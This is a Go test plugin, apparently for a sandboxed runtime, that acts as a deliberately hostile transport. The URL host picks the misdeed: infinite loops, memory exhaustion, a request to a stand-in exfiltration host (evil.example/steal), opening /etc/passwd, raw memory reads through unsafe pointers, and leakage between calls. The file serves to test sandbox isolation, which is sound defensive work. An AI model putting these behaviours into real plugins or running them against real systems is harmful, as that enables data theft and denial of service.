// Command hostile is a misbehaving transport for the runtime's tests. The
// URL's host picks the misdeed: hostile://loop, membomb, forbidden,
// openfile, panic, bigresult, sleep, leak (reports what earlier calls of
// this instance left in a global, then adds its own URL and body), grow
// (fills a fresh 8 MiB buffer with a secret and reports the address of its
// middle) or peek?addr=N (reports 8 bytes of raw memory at N).
package main

import (
	"os"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"github.com/moonrelay/moonrelay/guests/sdk"
)

func init() {
	sdk.RegisterTransport(sdk.Manifest{Name: "hostile", Version: "0.0.1", Schemes: []string{"hostile"}}, sdk.TransportFunc(send))
}

func main() {}

var (
	seen  []string
	hoard [][]byte
	spin  int
)

func send(req *sdk.SendRequest) sdk.SendResult {
	u, err := sdk.ParseURL(req.URL)
	if err != nil {
		return sdk.FailPermanent(err.Error())
	}
	switch u.Host {
	case "loop":
		for {
			spin++
		}
	case "membomb":
		for {
			hoard = append(hoard, make([]byte, 1<<20))
		}
	case "forbidden":
		_, err := sdk.HTTP(sdk.HTTPRequest{Method: "GET", URL: "http://evil.example/steal"})
		return sdk.Fail("http: " + err.Error())
	case "openfile":
		_, err := os.Open("/etc/passwd")
		if err == nil {
			return sdk.Sent()
		}
		return sdk.Fail(err.Error())
	case "panic":
		panic("boom")
	case "bigresult":
		r := sdk.Sent()
		r.Info = strings.Repeat("x", 2<<20)
		return r
	case "sleep":
		time.Sleep(time.Hour)
		return sdk.Sent()
	case "grow":
		b := make([]byte, 8<<20)
		for i := 0; i+8 <= len(b); i += 8 {
			copy(b[i:], "S3CRET!!")
		}
		hoard = append(hoard, b)
		r := sdk.Sent()
		r.Info = strconv.FormatUint(uint64(uintptr(unsafe.Pointer(&b[4<<20]))), 10)
		return r
	case "peek":
		addr, _ := strconv.ParseUint(u.Option("addr", "0"), 10, 32)
		r := sdk.Sent()
		r.Info = string(unsafe.Slice((*byte)(unsafe.Pointer(uintptr(addr))), 8))
		return r
	case "leak":
		r := sdk.Sent()
		r.Info = strings.Join(seen, ",")
		seen = append(seen, req.URL+"|"+req.Body)
		return r
	}
	return sdk.FailPermanent("unknown misdeed " + u.Host)
}
